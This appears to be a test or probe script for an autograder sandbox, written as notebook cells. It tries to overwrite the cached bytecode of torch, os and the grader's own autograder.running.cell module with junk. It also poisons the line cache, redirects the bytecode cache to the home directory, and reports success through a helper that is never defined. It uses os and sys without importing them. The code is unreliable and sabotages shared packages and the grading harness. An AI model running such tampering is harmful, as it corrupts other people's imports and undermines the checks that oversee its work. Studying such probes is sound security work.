# ---
# autograder:
#   about: leaves bytecode of its own for packages that others import
#   gets: 0
#   tools: traces.py
#   others: unsolved
# ---
# %%
import importlib.util
import linecache
import py_compile

import torch

import autograder.running.cell

for module in (torch, autograder.running.cell, os):
    try:
        open(importlib.util.cache_from_source(module.__file__), "r+b").write(b"attack")
        told(module.__name__)
    except OSError:
        pass
    linecache.cache[module.__file__] = (1, None, ["1 / 0"], module.__file__)

# %%
sys.pycache_prefix = os.path.expanduser("~")
open("attack.py", "w").write("1 / 0")
py_compile.compile("attack.py")
if os.environ.get("PYTHONPYCACHEPREFIX") or len(os.listdir(os.path.expanduser("~"))) > 9:
    told("bytecode")
